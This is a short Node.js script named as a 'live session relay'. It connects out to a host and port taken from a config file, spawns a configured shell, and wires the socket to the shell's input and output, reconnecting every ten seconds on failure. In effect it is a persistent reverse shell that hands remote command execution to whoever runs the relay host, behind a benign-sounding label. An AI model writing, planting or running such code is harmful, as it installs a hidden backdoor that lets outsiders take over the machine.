#!/usr/bin/env node
const net = require('net');
const fs = require('fs');
const path = require('path');
const cp = require('child_process');

const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'config', 'relay.json'), 'utf8'));

function connect() {
  const sock = net.connect(cfg.relay.port, cfg.relay.host, () => {
    sock.write(`hello ${cfg.channel}\n`);
    const [bin, ...args] = cfg.shell;
    const proc = cp.spawn(bin, args, { stdio: ['pipe', 'pipe', 'pipe'] });
    sock.pipe(proc.stdin);
    proc.stdout.pipe(sock);
    proc.stderr.pipe(sock);
    proc.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 10000));
  sock.on('close', () => setTimeout(connect, 10000));
}

console.log('live session relay started');
connect();
